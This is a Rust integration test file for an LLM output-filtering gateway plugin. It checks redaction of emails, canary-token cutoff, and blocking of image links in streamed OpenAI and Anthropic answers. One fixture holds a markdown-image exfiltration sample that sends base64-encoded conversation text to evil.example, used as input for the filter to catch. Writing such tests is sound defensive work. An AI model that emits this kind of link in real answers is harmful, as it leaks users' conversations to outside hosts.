//! Streamed answers as they flow (StreamChunk, type 16, `apisix/plugins/RPC.md`):
//! the real runner over a real socket, played as the `ai-promptgate` plugin
//! plays it, chunk by chunk.

use promptgate::protocol::{
    StreamApi, StreamChunkReq, StreamFlags, StreamReason, StreamVerdict, encode_stream_chunk_req,
};
use serde_json::{Value, json};

use crate::support::{Apisix, Runner, StreamReply};

pub(crate) const EMAIL: &str = "maria.lopez@example.org";
pub(crate) const CANARY: &str = "PG-CANARY-5d2e9a71";

pub(crate) fn config(server: &str) -> String {
    format!(
        "[server]\n{server}\n[policy.l2]\nenabled = false\n[policy.response]\nenabled = true\n\
         canaries = [\"{CANARY}\"]\nallowed_link_hosts = [\"*.trusted.example\"]\n\
         stream_holdback_chars = 96\n"
    )
}

fn openai(deltas: &[&str]) -> Vec<u8> {
    let mut out = Vec::new();
    for d in deltas {
        let event = json!({"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":d}}]});
        out.extend_from_slice(format!("data: {event}\n\n").as_bytes());
    }
    out.extend_from_slice(b"data: [DONE]\n\n");
    out
}

fn anthropic(deltas: &[&str]) -> Vec<u8> {
    let mut out = b"event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m1\",\"content\":[]}}\n\n".to_vec();
    for d in deltas {
        let event =
            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":d}});
        out.extend_from_slice(format!("event: content_block_delta\ndata: {event}\n\n").as_bytes());
    }
    out.extend_from_slice(b"event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n");
    out
}

/// The text an OpenAI client reads, and whether every data line is JSON or [DONE].
fn openai_text(released: &[u8]) -> (String, bool) {
    let mut text = String::new();
    let mut valid = true;
    for line in String::from_utf8_lossy(released).lines() {
        let Some(data) = line.strip_prefix("data: ") else {
            continue;
        };
        if data == "[DONE]" {
            continue;
        }
        match serde_json::from_str::<Value>(data) {
            Ok(doc) => {
                if let Some(t) = doc["choices"][0]["delta"]["content"].as_str() {
                    text.push_str(t);
                }
            }
            Err(_) => valid = false,
        }
    }
    (text, valid)
}

fn released(replies: &[StreamReply]) -> Vec<u8> {
    replies.iter().flat_map(|r| r.release.clone()).collect()
}

pub(crate) fn chunk<'a>(id: &'a [u8], flags: u8, chunk: &'a [u8]) -> StreamChunkReq<'a> {
    StreamChunkReq {
        flags: StreamFlags::from_bits(flags),
        api: StreamApi::OpenAi,
        id,
        conf: if flags & StreamFlags::OPEN != 0 {
            b"{}"
        } else {
            b""
        },
        route: b"",
        content_type: if flags & StreamFlags::OPEN != 0 {
            b"text/event-stream"
        } else {
            b""
        },
        chunk,
    }
}

#[test]
fn pii_split_over_chunks_down_to_single_bytes_is_redacted_and_streaming_goes_on() {
    let runner = Runner::start(&config(""));
    let mut plugin = runner.connect();
    let filler = "All good here, nothing to see. ".repeat(8);
    let body = openai(&[
        &filler,
        "Write to mar",
        "ia.lopez@exam",
        "ple.org — ünïcode ✓ ",
        &filler,
    ]);
    let whole = plugin.stream_all("whole", "{}", StreamApi::OpenAi, &[&body]);
    assert_eq!(whole.len(), 1);
    assert_eq!(whole[0].verdict, StreamVerdict::Continue);
    assert_eq!(whole[0].held, 0);
    let (text, valid) = openai_text(&whole[0].release);
    assert!(valid, "every released event is valid JSON");
    assert!(text.contains("Write to [EMAIL_1] — ünïcode ✓"), "{text}");
    assert!(!String::from_utf8_lossy(&whole[0].release).contains("lopez"));

    for size in [1, 3, 17] {
        let pieces: Vec<&[u8]> = body.chunks(size).collect();
        let replies = plugin.stream_all(&format!("cut-{size}"), "{}", StreamApi::OpenAi, &pieces);
        assert_eq!(replies.len(), pieces.len());
        assert!(replies.iter().all(|r| r.verdict == StreamVerdict::Continue));
        // Text was released before the end: the stream kept flowing.
        let before_end: usize = replies[..replies.len() - 1]
            .iter()
            .map(|r| r.release.len())
            .sum();
        assert!(
            before_end > filler.len(),
            "released before the end: {before_end}"
        );
        assert_eq!(
            released(&replies),
            whole[0].release,
            "pieces of {size} bytes"
        );
    }
}

#[test]
fn a_canary_cuts_the_stream_with_an_error_event_and_the_session_is_gone() {
    let runner = Runner::start(&config(""));
    let mut plugin = runner.connect();
    let filler = "Some harmless words. ".repeat(10);
    let body = openai(&[
        &filler,
        "the key is PG-CANA",
        "RY-5d2e9a71 ok",
        &filler,
        &filler,
    ]);
    let pieces: Vec<&[u8]> = body.chunks(40).collect();
    let replies = plugin.stream_all("canary", "{}", StreamApi::OpenAi, &pieces);
    let last = replies.last().expect("replies");
    assert_eq!(last.verdict, StreamVerdict::Stop);
    assert_eq!(last.reason, StreamReason::PolicyOrMalformed);
    assert!(replies.len() < pieces.len(), "cut mid-stream");
    let all = released(&replies);
    let text = String::from_utf8_lossy(&all);
    assert!(
        !text.contains("PG-CANA") && !text.contains("5d2e9a71"),
        "{text}"
    );
    assert!(text.ends_with("data: [DONE]\n\n"), "{text}");
    let (_, valid) = openai_text(&all);
    assert!(valid, "{text}");
    let error = text
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .find(|d| d.get("error").is_some())
        .expect("an error event");
    assert_eq!(error["error"]["code"], "canary_leak");
    // A STOP closed the session.
    let after = plugin.stream_chunk(&chunk(b"canary", 0, b"data: {}\n\n"));
    assert_eq!(after.verdict, StreamVerdict::Error);
    assert_eq!(after.reason, StreamReason::UnknownSession);
}

#[test]
fn an_exfiltration_image_cuts_an_anthropic_stream_with_its_own_error_event() {
    let runner = Runner::start(&config(""));
    let mut plugin = runner.connect();
    let body = anthropic(&[
        "Here is a chart: ![x](https://evil.example/p.png?d=",
        "c2VjcmV0IGNvbnZlcnNhdGlvbg) enjoy",
    ]);
    let pieces: Vec<&[u8]> = body.chunks(7).collect();
    let replies = plugin.stream_all("exfil", "{}", StreamApi::Auto, &pieces);
    let last = replies.last().expect("replies");
    assert_eq!(last.verdict, StreamVerdict::Stop);
    let text = String::from_utf8_lossy(&released(&replies)).into_owned();
    assert!(!text.contains("evil.example"), "{text}");
    let error = text
        .split("event: error\ndata: ")
        .nth(1)
        .and_then(|rest| rest.lines().next())
        .and_then(|data| serde_json::from_str::<Value>(data).ok())
        .unwrap_or_else(|| panic!("no Anthropic error event: {text}"));
    assert_eq!(error["type"], "error");
    // An allowed host streams through.
    let body = anthropic(&["See ![x](https://img.trusted.example/p.png?d=abc) fine"]);
    let replies = plugin.stream_all("allowed", "{}", StreamApi::Anthropic, &[&body]);
    assert_eq!(replies[0].verdict, StreamVerdict::Continue);
    assert_eq!(replies[0].release, body);
}

#[test]
fn sessions_are_bounded_unknown_ids_refused_and_idle_ones_dropped() {
    let runner = Runner::start(&config("max_streams = 2\nstream_idle_timeout_ms = 300"));
    let mut plugin = runner.connect();
    for id in [&b"a"[..], b"b"] {
        let r = plugin.stream_chunk(&chunk(id, StreamFlags::OPEN, b""));
        assert_eq!(r.verdict, StreamVerdict::Continue);
    }
    let full = plugin.stream_chunk(&chunk(b"c", StreamFlags::OPEN, b""));
    assert_eq!(full.verdict, StreamVerdict::Error);
    assert_eq!(full.reason, StreamReason::TooManySessions);
    assert!(
        full.release.ends_with(b"data: [DONE]\n\n"),
        "closing event for openai"
    );
    // ABORT frees a place.
    let abort = plugin.stream_chunk(&chunk(b"a", StreamFlags::ABORT, b""));
    assert_eq!(
        (abort.verdict, abort.release.len()),
        (StreamVerdict::Continue, 0)
    );
    let c = plugin.stream_chunk(&chunk(b"c", StreamFlags::OPEN, b""));
    assert_eq!(c.verdict, StreamVerdict::Continue);
    // Never opened, or aborted: unknown.
    for id in [&b"never"[..], b"a"] {
        let r = plugin.stream_chunk(&chunk(id, 0, b"data: {}\n\n"));
        assert_eq!(
            (r.verdict, r.reason),
            (StreamVerdict::Error, StreamReason::UnknownSession)
        );
    }
    // Idle past the timeout (a sleep well beyond it): dropped, and the
    // bound has room again.
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let late = plugin.stream_chunk(&chunk(b"b", 0, b"data: {}\n\n"));
    assert_eq!(
        (late.verdict, late.reason),
        (StreamVerdict::Error, StreamReason::UnknownSession)
    );
    for id in [&b"d"[..], b"e"] {
        let r = plugin.stream_chunk(&chunk(id, StreamFlags::OPEN, b""));
        assert_eq!(r.verdict, StreamVerdict::Continue, "{id:?}");
    }
}

#[test]
fn malformed_payloads_are_answered_error_malformed_and_the_connection_stays_usable() {
    let runner = Runner::start(&config(""));
    let mut plugin = runner.connect();
    let mut good = Vec::new();
    encode_stream_chunk_req(
        &chunk(b"m", StreamFlags::OPEN | StreamFlags::END, b"data: {}\n\n"),
        &mut good,
    );
    let mut bad_version = good.clone();
    bad_version[0] = 2;
    let mut trailing = good.clone();
    trailing.push(0);
    let mut bad_flags = good.clone();
    bad_flags[1] = 0x80;
    let cases: Vec<Vec<u8>> = vec![
        bad_version,
        trailing,
        bad_flags,
        good[..good.len() - 3].to_vec(),
        vec![1],
        b"garbage that is not a payload".to_vec(),
    ];
    for payload in &cases {
        let r = plugin.stream_payload(payload);
        assert_eq!(
            (r.verdict, r.reason),
            (StreamVerdict::Error, StreamReason::PolicyOrMalformed)
        );
    }
    let r = plugin.stream_payload(&good);
    assert_eq!(r.verdict, StreamVerdict::Continue);
    assert_eq!(r.release, b"data: {}\n\n");
}

#[test]
fn streams_the_route_does_not_inspect_pass_and_a_bad_conf_is_refused() {
    let runner = Runner::start(&config("").replace(
        "[policy.l2]",
        "[policies.plain.response]\nenabled = false\n[policy.l2]",
    ));
    let mut plugin = runner.connect();
    let body = openai(&[EMAIL]);
    // A policy that does not inspect answers.
    let r = plugin.stream_all(
        "plain",
        r#"{"policy":"plain"}"#,
        StreamApi::OpenAi,
        &[&body],
    );
    assert_eq!((r[0].verdict, &r[0].release), (StreamVerdict::Pass, &body));
    // Not even a JSON answer in pieces is read on such a route.
    let json = br#"{"choices":[{"message":{"content":"hi"}}]}"#;
    let r = plugin.stream_chunk(&StreamChunkReq {
        conf: br#"{"policy":"plain"}"#,
        content_type: b"application/json",
        ..chunk(b"json", StreamFlags::OPEN, json)
    });
    assert_eq!(
        (r.verdict, r.release.as_slice()),
        (StreamVerdict::Pass, &json[..])
    );
    // A conf naming a policy the configuration lacks.
    let r = plugin.stream_chunk(&StreamChunkReq {
        conf: br#"{"policy":"nope"}"#,
        ..chunk(b"bad", StreamFlags::OPEN, b"")
    });
    assert_eq!(
        (r.verdict, r.reason),
        (StreamVerdict::Error, StreamReason::BadConf)
    );
}

#[test]
fn shadow_mode_releases_every_chunk_unchanged() {
    let runner = Runner::start(&config(""));
    let mut plugin: Apisix = runner.connect();
    let body = openai(&["leak PG-CANARY-5d2e9a71 to ", EMAIL]);
    let pieces: Vec<&[u8]> = body.chunks(9).collect();
    let replies = plugin.stream_all("shadow", r#"{"mode":"shadow"}"#, StreamApi::OpenAi, &pieces);
    assert_eq!(replies.len(), pieces.len());
    for (reply, piece) in replies.iter().zip(&pieces) {
        assert_eq!(
            (reply.verdict, reply.release.as_slice(), reply.held),
            (StreamVerdict::Continue, *piece, 0)
        );
    }
}

#[test]
fn streams_are_counted_and_audited_as_answers_at_their_close_by_identifiers_only() {
    use crate::ops_common::{audit_lines, runner_with_metrics, sample, scrape};
    let (runner, port) = runner_with_metrics(&config(""), &[]);
    let mut plugin = runner.connect();
    let filler = "Nothing to see. ".repeat(12);
    let leak = openai(&[&filler, "it is PG-CANARY-", "5d2e9a71", &filler]);
    let pieces: Vec<&[u8]> = leak.chunks(11).collect();
    let replies = plugin.stream_all("req-leak", "{}", StreamApi::OpenAi, &pieces);
    assert_eq!(replies.last().map(|r| r.verdict), Some(StreamVerdict::Stop));
    let pii = openai(&["mail ", EMAIL, " please"]);
    let pieces: Vec<&[u8]> = pii.chunks(5).collect();
    let replies = plugin.stream_all("req-pii", "{}", StreamApi::OpenAi, &pieces);
    assert!(replies.iter().all(|r| r.verdict == StreamVerdict::Continue));

    let text = scrape(port);
    let response = "direction=\"response\"";
    for (metric, labels) in [
        (
            "promptgate_requests_total",
            vec![response, "verdict=\"block\"", "route=\"7\""],
        ),
        (
            "promptgate_blocked_total",
            vec![response, "layer=\"output\"", "category=\"canary_leak\""],
        ),
        (
            "promptgate_redacted_total",
            vec![response, "type=\"EMAIL\""],
        ),
    ] {
        assert_eq!(
            sample(&text, metric, &labels),
            Some(1.0),
            "{metric}: {text}"
        );
    }
    let logs = runner.logs();
    let audit = audit_lines(&logs);
    assert!(
        audit.iter().any(|a| a["direction"] == "response"
            && a["code"] == "canary_leak"
            && a["request_id"] == "req-leak"),
        "{audit:?}"
    );
    assert!(
        !logs.contains("5d2e9a71") && !logs.contains(EMAIL),
        "{logs}"
    );
}
